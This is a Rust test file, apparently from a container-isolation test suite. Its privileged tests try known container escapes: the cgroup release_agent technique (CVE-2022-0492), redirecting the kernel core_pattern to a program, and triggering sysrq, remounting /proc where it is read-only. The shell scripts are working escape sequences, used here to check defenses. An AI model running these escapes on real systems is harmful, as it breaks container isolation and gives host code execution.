//! Files of the kernel that are the whole machine's, and that whoever is user 0 may write to.

use std::fs::{self, File};
use std::io::{ErrorKind, Read, Seek, SeekFrom};
use std::os::unix::fs::OpenOptionsExt;
use std::path::PathBuf;
use std::process::Output;

use crate::attack::{Agent, Outcome, new_path, shell};
use crate::common::{Setting, said, until};
use crate::exhibit;

/// What is read-only in /proc is so in one mount of it. Root makes another one.
const ANOTHER_PROC: &str = "mkdir /dev/proc && mount -t proc proc /dev/proc";

// https://nvd.nist.gov/vuln/detail/CVE-2022-0492
#[test]
#[ignore = "privileged: make vm-test"]
fn exhibit_release_agent() {
    exhibit("release_agent", |world, flags| {
        let (agent, _host) = (Agent::new(world), OldHierarchy::mount(new_path(world, "old")));
        let script = format!(
            "mkdir /dev/m && mount -t cgroup -o none,name=museum museum /dev/m && mkdir /dev/m/child &&
             echo 1 >/dev/m/child/notify_on_release && echo {} >/dev/m/release_agent &&
             sh -c 'echo 0 >/dev/m/child/cgroup.procs'",
            agent.program.display()
        );
        let output = shell(world, flags, &script);
        Outcome::of(&output, output.status.success() && agent.has_run_on_the_host())
    });
}

/// A hierarchy of version 1, without controllers, as systemd had on every machine once: its name is
/// then in the /proc/PID/cgroup of all. It goes when it is unmounted, if it has no cgroup but its root.
struct OldHierarchy(PathBuf);

impl OldHierarchy {
    fn mount(dir: PathBuf) -> OldHierarchy {
        fs::create_dir(&dir).unwrap();
        let output = sh(&format!("mount -t cgroup -o none,name=museum museum {}", dir.display()));
        assert!(output.status.success(), "the host has no such hierarchy: {}", said(&output));
        OldHierarchy(dir)
    }
}

impl Drop for OldHierarchy {
    fn drop(&mut self) {
        let gone = || {
            let _ = fs::remove_dir(self.0.join("child"));
            sh(&format!("mountpoint -q {0} && umount {0}", self.0.display()));
            !fs::read_to_string("/proc/self/cgroup").unwrap().contains("name=museum")
        };
        if !std::thread::panicking() {
            until("the host has no such hierarchy any more", gone);
        } else {
            let _ = (0..20).any(|_| gone());
        }
    }
}

/// Here, and not in a mount namespace of its own.
fn sh(script: &str) -> Output {
    std::process::Command::new("sh").args(["-c", script]).output().unwrap()
}

#[test]
#[ignore = "privileged: make vm-test"]
fn exhibit_core_pattern() {
    const FILE: &str = "/proc/sys/kernel/core_pattern";
    exhibit("core_pattern", |world, flags| {
        let agent = Agent::new(world);
        let _as_before = Setting::set(FILE, &fs::read_to_string(FILE).unwrap());
        let script = format!(
            "write() {{ echo '|{}' >$1/sys/kernel/core_pattern; }}
             write /proc || {{ {ANOTHER_PROC} && write /dev/proc; }} || exit 9
             sh -c 'kill -SEGV $$'; true",
            agent.program.display()
        );
        let output = shell(world, flags, &script);
        Outcome::of(&output, output.status.success() && agent.has_run_on_the_host())
    });
}

#[test]
#[ignore = "privileged: make vm-test"]
fn exhibit_sysrq() {
    exhibit("sysrq", |world, flags| {
        let mut log = KernelLog::from_now_on();
        // Of these keys b reboots at once. h only has the kernel list them.
        let script = format!(
            "echo h >/proc/sysrq-trigger || {{ {ANOTHER_PROC} && echo h >/dev/proc/sysrq-trigger; }} || exit 9"
        );
        let output = shell(world, flags, &script);
        let has_been_pressed = log.rest().contains("sysrq: HELP");
        assert_eq!(has_been_pressed, output.status.success(), "what the kernel saw, and {}", said(&output));
        Outcome::of(&output, has_been_pressed)
    });
}

/// What the kernel says.
struct KernelLog(File);

impl KernelLog {
    fn from_now_on() -> KernelLog {
        let mut log = File::options().read(true).custom_flags(libc::O_NONBLOCK).open("/dev/kmsg").unwrap();
        log.seek(SeekFrom::End(0)).unwrap();
        KernelLog(log)
    }

    fn rest(&mut self) -> String {
        let (mut all, mut record) = (String::new(), [0; 8192]);
        loop {
            match self.0.read(&mut record) {
                Ok(count) => all += &String::from_utf8_lossy(&record[..count]),
                Err(error) if error.kind() == ErrorKind::WouldBlock => return all,
                // It was overwritten: there is a newer one. (EPIPE)
                Err(error) if error.kind() == ErrorKind::BrokenPipe => {}
                Err(error) => panic!("read the kernel's log: {error}"),
            }
        }
    }
}
